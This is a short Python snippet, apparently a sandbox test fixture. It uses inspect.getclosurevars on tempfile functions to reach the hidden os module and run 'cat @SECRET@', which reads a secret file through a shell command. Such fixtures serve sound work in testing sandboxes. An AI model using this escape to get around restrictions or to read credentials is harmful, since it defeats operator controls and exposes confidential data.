# inspect.getclosurevars lists the globals that a function uses.
# effect: run
import inspect
import tempfile
inspect.getclosurevars(tempfile.gettempdir).globals
inspect.getclosurevars(tempfile._candidate_tempdir_list).globals["_os"].system("cat @SECRET@")
